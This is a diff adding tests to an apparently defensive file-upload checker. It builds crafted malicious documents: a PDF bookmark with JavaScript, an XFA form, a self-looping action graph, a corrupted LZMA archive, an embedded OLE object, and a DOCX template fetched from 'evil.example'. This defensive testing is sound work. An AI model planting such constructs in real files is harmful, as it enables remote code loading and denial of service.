@@ -225,3 +225,71 @@ def test_fuzz_a_package_of_crafted_parts_is_read_or_refused(parts: dict[str, byt
         for name, body in parts.items():
             package.writestr(name, body)
     _only_refused("docx", out.getvalue())
+
+
+def test_a_web_of_actions_pointing_at_itself_is_checked_once_each() -> None:
+    def web(writer: PdfWriter) -> None:
+        from pypdf.generic import ArrayObject, DictionaryObject, NameObject
+
+        action = DictionaryObject({NameObject("/S"): NameObject("/GoTo"),
+                                   NameObject("/D"): ArrayObject([])})
+        ref = writer._add_object(action)
+        action[NameObject("/Next")] = ArrayObject([ref] * 12)
+        writer._root_object[NameObject("/OpenAction")] = ref
+
+    # 12 ** 9 walks without the record of what was seen; one with it.
+    assert check_content("x.pdf", _pdf(web)) == "application/pdf"
+
+
+def test_javascript_in_a_bookmark_is_refused() -> None:
+    def bookmark(writer: PdfWriter) -> None:
+        from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+        item = writer.add_outline_item(title="Section 1", page_number=0)
+        item.get_object()[NameObject("/A")] = DictionaryObject({
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.alert(1)")})
+
+    assert _refusal("x.pdf", _pdf(bookmark)) == [
+        "The PDF holds active content (JavaScript), which is not accepted: print it to a "
+        "plain PDF first."]
+
+
+def test_an_xfa_form_is_refused() -> None:
+    def xfa(writer: PdfWriter) -> None:
+        from pypdf.generic import ArrayObject, DictionaryObject, NameObject
+
+        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
+            NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): ArrayObject([])})
+
+    assert _refusal("x.pdf", _pdf(xfa)) == [
+        "The PDF holds active content (an XFA form), which is not accepted: print it to a "
+        "plain PDF first."]
+
+
+def test_a_docx_with_a_template_from_outside_is_refused() -> None:
+    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
+            'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+            '</Relationships>')
+    data = docx_file("x", extra={"word/_rels/settings.xml.rels": rels.encode()})
+    assert _refusal("x.docx", data) == [
+        "The DOCX file loads a template or object from outside itself, which is not "
+        "accepted: save it as a plain .docx with no attached template."]
+
+
+def test_a_docx_embedding_a_program_object_is_refused() -> None:
+    data = docx_file("x", extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
+    assert _refusal("x.docx", data) == [
+        "The DOCX file embeds a program object (OLE), which is not accepted: paste its "
+        "content as a picture or a table instead."]
+
+
+def test_a_damaged_lzma_member_is_refused() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as package:
+        package.writestr("log.txt", b"line\n" * 2000)
+    data = bytearray(out.getvalue())
+    data[60] ^= 0xFF  # inside the compressed stream
+    assert _refusal("x.zip", bytes(data))[0].startswith("The archive is damaged")
